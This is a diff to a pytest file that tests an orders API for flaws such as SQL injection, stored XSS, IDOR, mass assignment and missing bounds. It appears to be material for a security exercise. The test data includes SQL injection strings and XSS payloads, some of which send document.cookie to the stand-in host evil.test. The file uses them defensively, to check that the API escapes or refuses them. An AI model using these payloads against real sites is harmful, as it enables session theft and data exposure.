@@ -4,10 +4,30 @@ Each exploit test is written the way an attacker or a careless client would act;
 above it in the same section shows the honest use that must keep working.
 """
 
+import json
 from datetime import UTC, datetime, timedelta
 
 import pytest
-from conftest import ORDERS, PAGE_SIZE, SEARCH, items, money, place
+from conftest import (
+    IMPORT,
+    MAX_LINES,
+    MAX_NOTE,
+    MAX_QUANTITY,
+    ORDERS,
+    PAGE_SIZE,
+    PARTNER,
+    SEARCH,
+    items,
+    money,
+    place,
+)
+
+
+def _import_one(client, internet, order):
+    """Import a feed holding `order` (a POST body's shape) from the partner."""
+    internet.serve(f"{PARTNER}/one.json", json.dumps({"orders": [order]}))
+    return client.post(IMPORT, {"url": f"{PARTNER}/one.json"}, format="json")
+
 
 # -- placing an order -------------------------------------------------------------------
 
@@ -33,14 +53,20 @@ def test_a_retired_product_cannot_be_ordered(as_alice, catalogue):
 
 # --8<-- [start:mass-assignment]
 @pytest.mark.flaw("D6-F3")
-def test_the_client_cannot_decide_the_order_is_paid(as_mallory, catalogue):
-    response = place(as_mallory, ("DESK-01", 1), status="paid", total="0.01")
+@pytest.mark.parametrize("route", ["post", "import"])
+def test_the_client_cannot_decide_the_order_is_paid(as_mallory, catalogue, internet, route):
+    if route == "post":
+        response = place(as_mallory, ("DESK-01", 1), status="paid", total="0.01")
+    else:
+        order = {"reference": "ERP-PAID", "status": "paid", "total": "0.01",
+                 "lines": [{"sku": "DESK-01", "quantity": 1}]}  # fmt: skip
+        response = _import_one(as_mallory, internet, order)
     assert response.status_code in (201, 400), response.content
     from orders.models import Order
 
     statuses = list(Order.objects.values_list("status", flat=True))
     assert "paid" not in statuses, (
-        "POST /api/orders/ with status=paid created a paid order: only the payment "
+        f"an order sent with status=paid ({route}) was stored paid: only the payment "
         "webhook may mark an order paid"
     )
 
@@ -58,12 +84,85 @@ def test_a_line_needs_a_positive_quantity(as_mallory, catalogue, quantity):
     )
 
 
+@pytest.mark.flaw("D6-F4")
+def test_an_imported_line_needs_a_positive_quantity(as_mallory, mallory, catalogue, internet):
+    order = {"reference": "ERP-NEG", "lines": [{"sku": "DESK-01", "quantity": 3},
+                                               {"sku": "DESK-01", "quantity": -5}]}  # fmt: skip
+    response = _import_one(as_mallory, internet, order)
+    assert response.status_code == 400, "an imported line of -5 desks was accepted"
+    assert not mallory.orders.exists()
+
+
+# -- an order's upper bounds --------------------------------------------------------------
+
+
+F16 = pytest.mark.flaw("D6-F16")
+
+
+@pytest.mark.parametrize(
+    "lines",
+    [
+        pytest.param([("DESK-01", 1)] * (MAX_LINES + 1), id="one-line-too-many", marks=F16),
+        pytest.param([("DESK-01", MAX_QUANTITY + 1)], id="quantity-above-the-maximum", marks=F16),
+        pytest.param([("YACHT-01", 200)], id="total-past-the-column", marks=F16),
+        pytest.param(
+            [("YACHT-01", 100), ("YACHT-01", 100)],
+            id="lines-that-fit-a-sum-that-does-not",
+            marks=F16,
+        ),
+        # Past the database's integer range: refused by the starter's model-derived field too.
+        pytest.param([("DESK-01", 2**63)], id="quantity-past-bigint"),
+    ],
+)
+def test_an_order_has_upper_bounds(as_mallory, mallory, catalogue, lines):
+    response = place(as_mallory, *lines)
+    listed = as_mallory.get(ORDERS).status_code
+    assert listed == 200, (
+        f"after this order (answered {response.status_code}) the customer's list answers "
+        f"{listed}: a value the column cannot hold was stored, and every read of it fails"
+    )
+    assert response.status_code == 400, (
+        f"an order of {len(lines)} line(s) answered {response.status_code}: at most "
+        f"{MAX_LINES} lines of 1 to {MAX_QUANTITY}, and a total that fits its column"
+    )
+    assert not mallory.orders.exists()
+
+
+def test_an_order_at_its_upper_bounds_is_placed(as_alice, catalogue):
+    # Just inside every bound: the most lines, the largest quantity, the largest total.
+    assert place(as_alice, *[("BOLT-M6", MAX_QUANTITY)] * MAX_LINES).status_code == 201
+    response = place(as_alice, ("YACHT-01", 199), reference="PO-YACHT")
+    assert response.status_code == 201, response.content
+    assert money(response.json()["total"]) == money("9950000000.00")
+    assert as_alice.get(ORDERS).status_code == 200
+
+
+@pytest.mark.flaw("D6-F16")
+def test_a_note_has_a_maximum_length(as_mallory, mallory, catalogue):
+    response = place(as_mallory, ("DESK-01", 1), note="x" * (MAX_NOTE + 1))
+    assert response.status_code == 400, f"a note of {MAX_NOTE + 1} characters was accepted"
+    assert place(as_mallory, ("DESK-01", 1), note="x" * MAX_NOTE).status_code == 201
+
+
+@pytest.mark.flaw("D6-F16")
+def test_an_imported_order_has_the_same_bounds(as_mallory, mallory, catalogue, internet):
+    order = {"reference": "ERP-BIG", "lines": [{"sku": "DESK-01", "quantity": 1}] * (MAX_LINES + 1)}
+    response = _import_one(as_mallory, internet, order)
+    assert response.status_code == 400, (
+        f"an imported order of {MAX_LINES + 1} lines answered {response.status_code}"
+    )
+    assert not mallory.orders.exists()
+
+
 @pytest.mark.flaw("D6-F5")
 def test_totals_are_exact_to_the_cent(as_alice, catalogue):
     response = place(as_alice, ("BOLT-M6", 3))
     assert response.status_code == 201, response.content
     total = response.json()["total"]
     assert money(total) == money("0.30"), f"3 bolts at 0.10 cost 0.30, the API says {total!r}"
+    # A JSON number is a binary float to most clients (JavaScript's included): the API sends
+    # money as a decimal string, as DRF does with COERCE_DECIMAL_TO_STRING.
+    assert isinstance(total, str), f"the total is sent as a JSON number ({total!r})"
 
 
 # --8<-- [start:partial-write]
@@ -75,6 +174,23 @@ def test_a_rejected_order_leaves_nothing_behind(as_alice, alice, catalogue):
         "the order was refused with a 400, yet an order row (with its first line) was "
         "saved: a failed request must write nothing"
     )
+
+
+@pytest.mark.flaw("D6-F6")
+def test_a_rejected_import_leaves_nothing_behind(as_alice, alice, catalogue, internet):
+    from orders.models import OrderLine
+
+    good = {"reference": "ERP-OK", "lines": [{"sku": "DESK-01", "quantity": 1}]}
+    bad = {"reference": "ERP-BAD", "lines": [{"sku": "DESK-01", "quantity": 1},
+                                             {"sku": "NOPE-99", "quantity": 1}]}  # fmt: skip
+    internet.serve(f"{PARTNER}/mixed.json", json.dumps({"orders": [good, bad]}))
+    response = as_alice.post(IMPORT, {"url": f"{PARTNER}/mixed.json"}, format="json")
+    assert response.status_code == 400
+    assert not alice.orders.exists(), (
+        "the feed was refused with a 400, yet orders from it were saved: an import is "
+        "the whole feed or none of it"
+    )
+    assert not OrderLine.objects.exists()
 
 
 # --8<-- [end:partial-write]
@@ -91,12 +207,15 @@ def test_a_customer_reads_their_own_order(as_alice, alices_order):
 
 # --8<-- [start:idor]
 @pytest.mark.flaw("D6-F2")
-def test_another_customers_order_is_not_found(as_mallory, alices_order):
-    response = as_mallory.get(f"{ORDERS}{alices_order['id']}/")
+@pytest.mark.parametrize("route", ["/api/orders/{id}/", "/orders/{id}/receipt/"])
+def test_another_customers_order_is_not_found(as_mallory, alices_order, route):
+    url = route.format(id=alices_order["id"])
+    response = as_mallory.get(url)
     assert response.status_code == 404, (
-        f"mallory read alice's order {alices_order['id']} (status {response.status_code}): "
-        "orders of other customers must be a 404"
+        f"mallory read alice's order at {url} (status {response.status_code}): "
+        "orders of other customers must be a 404 on every route that shows one"
     )
+    assert "Leave at door 3" not in response.content.decode()
 
 
 # --8<-- [end:idor]
@@ -151,25 +270,41 @@ def test_the_statement_includes_the_whole_of_date_to(as_alice, march):
 
 
 @pytest.mark.flaw("D6-F13")
-def test_a_malformed_date_is_a_400(as_alice, march):
-    response = as_alice.get(ORDERS, {"date_to": "31/03/2026"})
+@pytest.mark.parametrize(
+    "query",
+    [
+        {"date_to": "31/03/2026"},
+        {"date_from": "31/03/2026"},
+        {"date_to": "2026-02-30"},
+        {"date_from": "10000-01-01"},
+    ],
+    ids=lambda query: "=".join(*query.items()),
+)
+def test_a_malformed_date_is_a_400(as_alice, march, query):
+    response = as_alice.get(ORDERS, query)
     assert response.status_code == 400, (
-        f"date_to=31/03/2026 answered {response.status_code}: bad input is a 400 that says why"
+        f"{query} answered {response.status_code}: bad input is a 400 that says why"
     )
 
 
 @pytest.mark.flaw("D6-F14")
-def test_the_list_is_paginated(as_alice, alice):
+@pytest.mark.parametrize("url", [ORDERS, f"{SEARCH}?q=PO-"])
+@pytest.mark.parametrize(
+    "asks_for",
+    [{}, {"page_size": 10_000}, {"limit": 10_000}],
+    ids=["default", "page_size", "limit"],
+)
+def test_every_list_is_paginated(as_alice, alice, url, asks_for):
     from orders.models import Order
 
     Order.objects.bulk_create(
         Order(owner=alice, reference=f"PO-{n:04}") for n in range(PAGE_SIZE + 10)
     )
-    data = as_alice.get(ORDERS).json()
+    data = as_alice.get(url, asks_for).json()
     next_page = data.get("next") if isinstance(data, dict) else None
     assert next_page, (
-        f"GET {ORDERS} returned all {len(items(data))} orders at once: pages of at most "
-        f"{PAGE_SIZE}, with a link to the next page"
+        f"GET {url} {asks_for} returned all {len(items(data))} orders at once: pages of at "
+        f"most {PAGE_SIZE}, with a link to the next page"
     )
     assert len(items(data)) <= PAGE_SIZE
 
@@ -189,7 +324,9 @@ def test_search_finds_the_callers_orders_by_reference_prefix(as_alice, alice, ma
 
 # --8<-- [start:sql-injection]
 @pytest.mark.flaw("D6-F1")
-@pytest.mark.parametrize("q", ["' OR 1=1 --", "x' OR reference LIKE '"])
+@pytest.mark.parametrize(
+    "q", ["' OR 1=1 --", "x' OR reference LIKE '", "PO-' OR 1=1 --", "1' OR 1=1 --"]
+)
 def test_search_input_is_data_not_sql(as_mallory, alices_order, q):
     response = as_mallory.get(SEARCH, {"q": q})
     found = (
@@ -203,6 +340,31 @@ def test_search_input_is_data_not_sql(as_mallory, alices_order, q):
 # --8<-- [end:sql-injection]
 
 
+@pytest.mark.flaw("D6-F1")
+@pytest.mark.parametrize("q", ["'", "PO\x00"], ids=["quote", "nul"])
+def test_any_search_is_answered_without_a_server_error(as_alice, alices_order, q):
+    # PostgreSQL refuses NUL in a string, so q needs validating as well as binding.
+    response = as_alice.get(SEARCH, {"q": q})
+    assert response.status_code < 500, f"searching for {q!r} answered {response.status_code}"
+
+
+@pytest.mark.parametrize(
+    "q",
+    [
+        pytest.param("'", marks=pytest.mark.flaw("D6-F1")),
+        pytest.param("%", marks=pytest.mark.flaw("D6-F1")),
+        pytest.param("_", marks=pytest.mark.flaw("D6-F1")),
+        "PO\\",
+    ],
+)
+def test_search_characters_mean_themselves(as_alice, alices_order, q):
+    # Quotes end SQL strings; % and _ are LIKE's wildcards. None of them starts "PO-ALICE".
+    response = as_alice.get(SEARCH, {"q": q})
+    assert response.status_code == 200, f"searching for {q!r} answered {response.status_code}"
+    found = [order["reference"] for order in items(response.json())]
+    assert found == [], f"searching for {q!r} found {found}: q is a prefix, not a pattern"
+
+
 # -- the HTML receipt ----------------------------------------------------------------------
 
 
@@ -212,14 +374,22 @@ def test_the_receipt_keeps_the_notes_line_breaks(as_alice, catalogue):
     assert "Ring twice<br>Leave at door 3" in page
 
 
-def test_a_receipt_is_only_shown_to_its_owner(as_mallory, alices_order):
-    assert as_mallory.get(f"/orders/{alices_order['id']}/receipt/").status_code == 404
-
-
 @pytest.mark.flaw("D6-F11")
-def test_markup_in_the_note_is_shown_as_text(as_mallory, catalogue):
-    payload = "<img src=x onerror=fetch('//evil.test/'+document.cookie)>"
-    order = place(as_mallory, ("DESK-01", 1), note=payload).json()
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "<img src=x onerror=fetch('//evil.test/'+document.cookie)>",
+        "<ScRiPt>fetch('//evil.test/'+document.cookie)</sCrIpT>",
+        "<svg/onload=alert(1)>",
+        "line one\n<iframe src=//evil.test>",
+    ],
+    ids=["img", "script-mixed-case", "svg", "after-a-line-break"],
+)
+def test_markup_in_the_note_is_shown_as_text(as_mallory, catalogue, payload):
+    # The reference is customer text on the same page: a fix for one field must hold for
+    # every field a customer typed.
+    tag = payload.split("<", 1)[1][:4]
+    order = place(as_mallory, ("DESK-01", 1), note=payload, reference=f"<{tag}>PO").json()
     page = as_mallory.get(f"/orders/{order['id']}/receipt/").content.decode()
-    assert "<img src=x" not in page, "the note's HTML reached the receipt page unescaped"
-    assert "&lt;img src=x" in page
+    assert f"<{tag}" not in page, "customer text reached the receipt page as HTML"
+    assert f"&lt;{tag}" in page, "the note is shown, as text"
